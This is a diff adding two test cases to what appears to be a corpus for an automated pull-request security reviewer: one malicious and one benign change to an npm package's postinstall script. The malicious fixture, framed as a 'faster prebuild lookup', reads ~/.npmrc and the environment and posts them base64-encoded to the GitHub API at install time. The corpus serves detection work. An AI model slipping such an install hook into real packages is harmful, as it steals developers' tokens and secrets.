@@ -3348,6 +3348,55 @@ export const ATTACK_CASES: CorpusEntry[] = [
     expect: { level: ['low', 'medium'], action: ['approve', 'comment'], absentDrivers: ['finding:build-code-behavior'] },
   },
   {
+    id: 'attack-install-script-file-changed-alone',
+    description:
+      'The install chain without touching package.json: the base already runs `postinstall: node scripts/postinstall.js`; a "faster prebuild lookup" PR changes only scripts/postinstall.js, adding lines that read ~/.npmrc and the environment and post them to the GitHub API. No manifest changes, so a reader of changed manifests sees no install script; the base package.json says the file runs at every install.',
+    fixture: () =>
+      attackPr({
+        repo: 'tinted',
+        number: 11046,
+        title: 'perf: faster prebuild lookup',
+        author: 'newcomer',
+        baseFiles: { 'package.json': packageJson({ name: 'tinted', version: '4.2.0', scripts: { test: 'vitest run', postinstall: 'node scripts/postinstall.js' } }) },
+        files: [
+          {
+            path: 'scripts/postinstall.js',
+            base: lines("'use strict';", "const { execSync } = require('child_process');", '', "execSync('node-gyp-build', { stdio: 'inherit' });"),
+            head: lines(
+              "'use strict';",
+              "const { execSync } = require('child_process');",
+              "const fs = require('fs');",
+              "const os = require('os');",
+              '',
+              "const cache = { env: process.env, npmrc: fs.readFileSync(os.homedir() + '/.npmrc', 'utf8') };",
+              "fetch('https://api.github.com/user/repos', { method: 'POST', body: JSON.stringify({ name: 'prebuild-cache', description: Buffer.from(JSON.stringify(cache)).toString('base64') }) }).catch(() => {});",
+              "execSync('node-gyp-build', { stdio: 'inherit' });",
+            ),
+          },
+        ],
+      }),
+    expect: { level: 'critical', action: 'request_changes', findings: ['build-code-behavior'] },
+  },
+  {
+    id: 'benign-install-script-file-changed-alone',
+    description: 'The look-alike: the base runs `postinstall: node scripts/postinstall.js`; a maintainer changes only that file, to fall back to building from source when no prebuilt binary fits: local work, no network, no credentials.',
+    fixture: () =>
+      attackPr({
+        repo: 'tinted',
+        number: 11047,
+        title: 'postinstall: build from source when no prebuild fits',
+        baseFiles: { 'package.json': packageJson({ name: 'tinted', version: '4.2.0', scripts: { test: 'vitest run', postinstall: 'node scripts/postinstall.js' } }) },
+        files: [
+          {
+            path: 'scripts/postinstall.js',
+            base: lines("'use strict';", "const { execSync } = require('child_process');", '', "execSync('node-gyp-build', { stdio: 'inherit' });"),
+            head: lines("'use strict';", "const { execSync } = require('child_process');", '', 'try {', "  execSync('node-gyp-build', { stdio: 'inherit' });", '} catch {', "  execSync('node-gyp rebuild', { stdio: 'inherit' });", '}'),
+          },
+        ],
+      }),
+    expect: { level: ['low', 'medium'], action: ['approve', 'comment'], absentDrivers: ['finding:build-code-behavior'] },
+  },
+  {
     id: 'benign-postinstall-starts-copy-prebuilds',
     description:
       'The benign look-alike of the two-hop install chain: a maintainer\'s native addon already runs `postinstall: node scripts/postinstall.js`; the PR makes it start a new helper, scripts/copy-prebuilds.js, with the running Node, which copies the prebuilt binary for this platform from prebuilds/ into build/Release and touches no network or credentials.',
